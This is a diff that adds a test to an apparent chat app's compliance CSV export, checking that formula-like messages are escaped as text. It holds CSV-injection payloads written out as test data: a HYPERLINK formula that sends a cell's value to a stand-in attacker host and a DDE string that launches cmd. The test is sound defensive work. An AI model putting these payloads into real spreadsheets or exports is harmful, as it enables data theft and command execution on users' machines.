@@ -7,6 +7,7 @@ import { createHash } from 'node:crypto';
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { eq } from 'drizzle-orm';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { chatMessages, chatChannels } from '../../src/server/db/schema';
 import { BUZZ_DATA, CHAT_LIMITS, CHAT_MESSAGES, type ChatChannel } from '../../src/shared/contracts/chat';
@@ -213,6 +214,23 @@ describe('delete: hidden from members, kept for compliance', () => {
     // Outside the time range: nothing but the header.
     const before = await asha.plain('POST', '/api/download-chats', { ...body, startTime: start - 120_000, endTime: start - 60_000 });
     expect(before.body.trim().split('\r\n')).toHaveLength(1);
+  });
+
+  it("the export never hands a spreadsheet a formula: another firm's =HYPERLINK(...) reaches compliance as text", async () => {
+    const channel = await direct();
+    const start = t.clock.now().getTime();
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Statement")';
+    await send(channel.b, channel.url, formula);
+    await send(channel.b, channel.url, "@SUM(1+1)*cmd|' /C calc'!A0");
+    await send(channel.a, channel.url, '-0.25 on the 2033s');
+    const { access } = await signIn(t.app, 'complianceofficer@arihant.demo');
+    const body = { startTime: start, endTime: start + 60_000, channelIds: [channel.url] };
+    const res = await t.app.inject({ method: 'POST', url: '/api/download-chats', headers: bearer(access), payload: body });
+    expect(res.statusCode).toBe(200);
+    const { data } = Papa.parse<Record<string, string>>(res.body, { header: true, skipEmptyLines: true });
+    expect(data.map((r) => r.Message)).toEqual([`'${formula}`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-0.25 on the 2033s"]);
+    // Numbers stay numbers.
+    expect(data.every((r) => /^\d+$/.test(r['Message id']!))).toBe(true);
   });
 });
 
